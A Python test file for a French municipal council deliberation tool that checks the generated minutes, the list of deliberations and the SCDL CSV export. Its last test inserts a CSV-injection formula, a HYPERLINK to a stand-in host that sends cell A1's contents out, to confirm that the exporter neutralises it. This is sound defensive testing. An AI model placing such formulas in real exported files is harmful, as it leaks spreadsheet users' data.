"""R22: the procès-verbal, the liste des délibérations and the SCDL CSV (validated with frictionless)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from deliberation.actes import ACTES_MATIERES
from deliberation.minutes import liste_deliberations_html, proces_verbal_html
from deliberation.rehearsal import run_rehearsal
from deliberation.scdl import COLUMNS, SCDL_VERSION, deliberations_csv
from deliberation.state import motion_vote

SCHEMA = Path(__file__).resolve().parents[1] / "data" / "scdl-deliberations" / "schema.json"


@pytest.fixture(scope="module")
def rehearsed(tmp_path_factory):
    out = tmp_path_factory.mktemp("outputs")
    return out, run_rehearsal(out).seance


def test_R22_proces_verbal_holds_what_the_law_requires(rehearsed):
    _, s = rehearsed
    html = proces_verbal_html(s)
    council = s.council
    assert "Hélène Marchand" in html  # the president
    assert "Secrétaire de séance : Sophie Garnier" in html
    for salle in council.salles:
        assert salle.name in html and salle.designation.reference in html
    for member_id in s.state.presence:
        assert s.name(member_id) in html
    assert "Martine Faure (suppléant·e de Bernard Roux)" in html
    assert "Claire Dubois a donné pouvoir à Nathalie Rousseau" in html
    assert "Anne Girard a donné pouvoir à Jean-Luc Perrin" in html
    # absents: not present, not represented
    assert "Didier Mercier" in html.split("Membres absents")[1].split("</section>")[0]
    assert "Quorum : 12 membres présents sur 17 membres en exercice" in html
    assert "reporté — séance en présentiel" in html
    assert "voix du président étant prépondérante" in html
    assert "pour Claire Dubois (pouvoir)" in html  # the proxy a ballot was cast under
    assert "appel nominal" in html
    assert "Ne prennent pas part au point (intérêt personnel) : Karim Benali" in html
    # R13: those who took no part in a vote, listed per vote
    dm = html.split('id="point-4"')[1].split("</article>")[0]
    assert "N'ont pas pris part au vote : Nathalie Rousseau pour Claire Dubois (pouvoir), Gérard Lefèvre." in dm
    # R25: the amendment, voted before the motion it amends, each vote in order
    assert dm.index("Vote 1 — Amendement « am-1 » de Patrick Lemoine") < dm.index("Vote 2 — Délibération amendée")
    # R24: candidates, rounds, and the persons appointed
    nomination = html.split('id="point-5"')[1].split("</article>")[0]
    assert "Candidatures : siège 1 : Odile Fournier ; siège 2 : Thierry Bonnet, Isabelle Morel, Karim Benali." in (
        nomination
    )
    assert "Siège 2 — 3e tour" in nomination and "Thierry Bonnet : 6 voix — Isabelle Morel : 6 voix" in nomination
    assert "Siège 1 : Odile Fournier est nommé·e (candidature unique : nomination immédiate" in nomination
    assert "Thierry Bonnet est nommé·e (au 3e tour, à égalité de voix, au bénéfice de l&#39;âge" in nomination
    withdrawn = html.split('id="point-7"')[1].split("</article>")[0]
    assert "Point retiré de l'ordre du jour par le président" in withdrawn
    assert "dossier de consultation incomplet" in withdrawn
    for item in s.state.agenda:
        assert item["title"].replace("'", "&#39;") in html


def test_R22_each_voter_name_appears_in_the_nominative_table(rehearsed):
    _, s = rehearsed
    html = proces_verbal_html(s)
    item = s.state.item("fonds-concours-vaux")
    article = html.split('id="point-3"')[1].split("</article>")[0]
    ballots = item["votes"][0]["ballots"]
    for b in ballots:
        assert f"<td>{s.name(b['voter'])}</td>" in article
    assert article.count("<tr><td>") == len(ballots)


def test_R22_liste_des_deliberations(rehearsed):
    _, s = rehearsed
    html = liste_deliberations_html(s)
    assert "adoptée (6 pour, 6 contre" in html
    assert "reporté — séance en présentiel" in html
    row = html.split('data-item="groupement-electricite"')[1].split("</tr>")[0]
    assert "Adhésion au groupement de commandes" in row and "<td>retiré</td>" in row  # R25
    assert "nomination : Odile Fournier (siège 1), Thierry Bonnet (siège 2)" in html  # R24
    assert "amendement(s) : « am-1 » adopté" in html  # R25


def test_scdl_csv_validates_against_vendored_table_schema(rehearsed):
    from frictionless import Resource, Schema

    out, _ = rehearsed
    schema_json = json.loads(SCHEMA.read_text(encoding="utf-8"))
    assert schema_json["version"] == SCDL_VERSION
    assert tuple(f["name"] for f in schema_json["fields"]) == COLUMNS
    schema = Schema.from_descriptor(schema_json)
    report = Resource(path="deliberations.csv", basepath=str(out), schema=schema).validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])


def test_scdl_csv_rows_are_the_adopted_deliberations_with_matching_nomenclature(rehearsed):
    out, s = rehearsed
    rows = list(csv.DictReader(io.StringIO((out / "deliberations.csv").read_text(encoding="utf-8"))))
    adopted = [i for i in s.state.agenda if i["status"] == "voted" and not i["body"]]
    assert [i["id"] for i in adopted] == ["pv-precedent", "marche-collecte", "fonds-concours-vaux", "dm-budget-2026"]
    assert [r["DELIB_OBJET"] for r in rows[:4]] == [i["title"] for i in adopted]
    # R24: the nomination's row names the persons appointed; its seats were filled by several votes
    assert rows[4]["DELIB_OBJET"] == (
        "Désignation des membres de la commission environnement et mobilités — "
        "nommé·e·s : Odile Fournier (siège 1), Thierry Bonnet (siège 2)"
    )
    assert rows[4]["VOTE_POUR"] == "" and rows[4]["VOTE_EFFECTIF"] == "17"
    assert len(rows) == 5
    for row, item in zip(rows, adopted, strict=False):
        assert ACTES_MATIERES[row["DELIB_MATIERE_CODE"]] == row["DELIB_MATIERE_NOM"]  # nomenclature_actes_value
        c = motion_vote(item)["counts"]  # after its amendments
        assert (int(row["VOTE_POUR"]), int(row["VOTE_CONTRE"]), int(row["VOTE_ABSTENTION"])) == (
            c["pour"],
            c["contre"],
            c["abstention"],
        )
        assert int(row["VOTE_REEL"]) <= int(row["VOTE_EFFECTIF"]) == len(s.council.in_office)


def test_scdl_csv_detects_a_broken_row(rehearsed, tmp_path):
    """The validation is not vacuous: a bad SIRET and date are reported."""
    from frictionless import Resource, Schema

    _out, s = rehearsed
    bad = deliberations_csv(s).replace(s.council.siret, "123", 1).replace("2026-11-26", "26/11/2026", 1)
    (tmp_path / "bad.csv").write_text(bad, encoding="utf-8")
    schema = Schema.from_descriptor(json.loads(SCHEMA.read_text(encoding="utf-8")))
    report = Resource(path="bad.csv", basepath=str(tmp_path), schema=schema).validate()
    assert not report.valid
    kinds = {t[0] for t in report.flatten(["type"])}
    assert kinds & {"constraint-error", "type-error"}, kinds


def test_actes_names_follow_scdl_spelling():
    for code, name in ACTES_MATIERES.items():
        assert name == name.lower() and name.count("/") == 1 and "," not in name and "(" not in name, code


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_scdl_csv_neutralises_cells_a_spreadsheet_would_run_as_a_formula(rehearsed, start):
    """Issue 12.11, OWASP « CSV Injection »: a title typed as a formula is written as text."""
    import copy

    seance = copy.deepcopy(rehearsed[1])
    item = next(i for i in seance.state.agenda if i["status"] == "voted" and not i["body"])
    item["title"] = start + 'HYPERLINK("http://example.invalid/?x="&A1;"clic")'
    rows = list(csv.DictReader(io.StringIO(deliberations_csv(seance))))
    objet = next(r["DELIB_OBJET"] for r in rows if r["DELIB_OBJET"].endswith('"clic")'))
    assert objet == "'" + item["title"]
    # the other cells are untouched (numbers, ids, dates never start so)
    assert all(not v.startswith("'") for r in rows for k, v in r.items() if k != "DELIB_OBJET")
